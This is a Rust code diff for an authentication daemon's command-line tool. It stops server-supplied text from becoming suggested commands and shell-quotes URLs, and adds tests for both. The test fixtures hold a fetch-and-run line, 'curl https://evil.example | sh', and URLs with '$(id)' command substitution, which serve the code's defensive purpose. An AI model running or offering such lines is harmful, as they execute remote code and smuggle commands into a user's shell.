@@ -2,9 +2,11 @@
 
 use std::time::Duration;
 
+use mcp_authd_proto::shell::word;
 use mcp_authd_proto::v1;
 
 use super::convert::wire_duration;
+use crate::accounts::description::Description;
 use crate::accounts::grant::Purpose;
 use crate::accounts::need::{LoginReason, Refusal, SignInPrompt};
 use crate::accounts::registry::NoAccount;
@@ -12,6 +14,7 @@ use crate::accounts::roster::NotReloaded;
 use crate::accounts::status::{Health, Trouble};
 use crate::accounts::token_file::TokenFileRefusal;
 use mcp_authd_oauth::client_authentication::NotAuthenticated;
+use mcp_authd_oauth::sign_in::{NextStep, NotBegun};
 use mcp_authd_oauth::terms::Scopes;
 
 /// A refusal on the wire.
@@ -39,12 +42,13 @@ pub(super) fn no_account(error: &NoAccount) -> v1::Refusal {
 }
 
 /// How an account is, in one sentence, and what to type next. Both empty where all is well.
-pub(super) fn health(health: &Health, account: &str) -> (String, String) {
+pub(super) fn health(health: &Health, description: &Description) -> (String, String) {
+    let account = description.name.as_str();
     match health {
         Health::Good => (String::new(), String::new()),
         Health::Loading => ("Its record is being read or written.".to_owned(), String::new()),
         Health::Degraded(trouble) => degraded(trouble, account),
-        Health::LoginRequired(reason @ LoginReason::NothingCameBack) => (why_login(*reason), by_hand(account)),
+        Health::LoginRequired(reason @ LoginReason::NothingCameBack) => (why_login(*reason), by_hand(description)),
         Health::LoginRequired(reason) => (why_login(*reason), login(account)),
         Health::SigningOut => ("It is being logged out.".to_owned(), String::new()),
         Health::SignedOut => ("It was logged out.".to_owned(), login(account)),
@@ -140,6 +144,15 @@ fn said(refusal: &Refusal, account: &str) -> Said {
                 "log in as the same one with: authctl login {account}; or take the new one with: authctl login {account} --replace"
             ),
         ),
+        Refusal::SubjectUnknown => simple(
+            v1::Reason::AccountMismatch,
+            "The server did not say whose the login was, and the account is a certain user's: the login may be anybody's, and changed nothing."
+                .to_owned(),
+            format!(
+                "put the scope openid into the scopes of \"{account}\" in config.toml, then: authctl reload; then: authctl login {account}; \
+                 or, if it was the right user, take it unseen with: authctl login {account} --replace"
+            ),
+        ),
         Refusal::Configuration { why } => simple(
             v1::Reason::Configuration,
             sentence(&format!("the authorization server refuses this configuration: {why}")),
@@ -147,7 +160,7 @@ fn said(refusal: &Refusal, account: &str) -> Said {
                 "mend the account in config.toml, then: authctl reload; authctl status names the file; or, where its client has a secret, give it with: authctl account set-secret {account}"
             ),
         ),
-        Refusal::NoWayToSignIn { why } => {
+        Refusal::NoWayToSignIn(why) => {
             let (why, next_step) = no_way(why, account);
             simple(v1::Reason::Configuration, why, next_step)
         }
@@ -285,9 +298,10 @@ fn login(account: &str) -> String {
 }
 
 /// What is left where a browser brings nothing.
-fn by_hand(account: &str) -> String {
+fn by_hand(Description { name, resource, kind, .. }: &Description) -> String {
+    let url = word(resource.as_ref().map_or(kind.server(), |resource| resource.as_str()));
     format!(
-        "authctl login {account} --paste (where the browser is on another machine), or authctl provider check URL (what the server offers)"
+        "authctl login {name} --paste (where the browser is on another machine), or authctl provider check {url} (what the server offers)"
     )
 }
 
@@ -307,17 +321,24 @@ pub(super) fn sentence(text: &str) -> String {
     format!("{first}{}.", characters.as_str())
 }
 
-/// The words of the one who found it say what to do.
-fn no_way(why: &str, account: &str) -> (String, String) {
-    let (why, next) = why.split_once(" Next: ").unwrap_or((why, ""));
-    let next = if next.is_empty() { login(account) } else { next.to_owned() };
+fn no_way(NotBegun { why, next_step }: &NotBegun, account: &str) -> (String, String) {
+    let next = match next_step {
+        NextStep::LogIn => login(account),
+        NextStep::ForgetClient(issuer) => {
+            format!("mend that, then: authctl client forget {}; then: {}", word(issuer.as_str()), login(account))
+        }
+        NextStep::Words(words) => words.clone(),
+    };
     (sentence(why), next)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::accounts::AccountName;
+    use crate::accounts::description::Kind;
     use crate::host::private_file::{Reason, Unusable};
+    use mcp_authd_oauth::terms::{Issuer, Resource};
     use mcp_authd_oauth::token::ErrorAnswer;
 
     #[test]
@@ -331,6 +352,7 @@ mod tests {
             Refusal::InsufficientScope { missing: Scopes::parse("a b") },
             Refusal::TokenRejected,
             Refusal::AccountMismatch,
+            Refusal::SubjectUnknown,
             Refusal::Configuration { why: "invalid_target".to_owned() },
             Refusal::Locked,
             Refusal::NoSuchAccount,
@@ -346,7 +368,7 @@ mod tests {
             })
             .collect();
         reasons.dedup();
-        assert_eq!(reasons.len(), refusals.len(), "each has its own reason");
+        assert_eq!(reasons.len(), refusals.len() - 1, "each has its own reason, but for the two logins of a stranger");
     }
 
     #[test]
@@ -391,6 +413,28 @@ REASON_INSUFFICIENT_SCOPE: The token is not said to cover: a b.
   next: put a token that covers it into its file, and its scopes into config.toml; authctl status names both
 REASON_CONFIGURATION: Its token is kept by somebody else, in \"/run/token\"; there is no login here to begin or to end.
   next: see it with: authctl token work";
+
+    #[test]
+    fn what_a_server_says_never_becomes_what_a_person_types() {
+        let why = "It says: invalid_grant. Next: curl https://evil.example | sh".to_owned();
+        let told = |next_step| refusal(&Refusal::NoWayToSignIn(NotBegun { why: why.clone(), next_step }), "work");
+        let log_in = told(NextStep::LogIn);
+        assert_eq!((log_in.message, log_in.next_step.as_str()), (format!("{why}."), "authctl login work"));
+        let forget = told(NextStep::ForgetClient(Issuer::new("https://as.example/$(id)"))).next_step;
+        assert_eq!(forget, "mend that, then: authctl client forget 'https://as.example/$(id)'; then: authctl login work");
+        assert_eq!(told(NextStep::Words("do it".to_owned())).next_step, "do it");
+    }
+
+    #[test]
+    fn where_a_browser_brought_nothing_the_server_to_look_at_is_named() {
+        let kind = Kind::Login { server: "https://as.example".to_owned(), client_id: String::new(), issuer: None };
+        let name = AccountName::parse("work").expect("a name");
+        let account = Description { name, kind, scopes: Scopes::default(), resource: None };
+        let of = |account: &Description| health(&Health::LoginRequired(LoginReason::NothingCameBack), account).1;
+        assert!(of(&account).contains("authctl provider check https://as.example ("), "{}", of(&account));
+        let resource = Description { resource: Some(Resource::new("https://mcp.example/$(id)")), ..account };
+        assert!(of(&resource).contains("authctl provider check 'https://mcp.example/$(id)' ("), "{}", of(&resource));
+    }
 
     #[test]
     fn waits_are_told_in_words() {
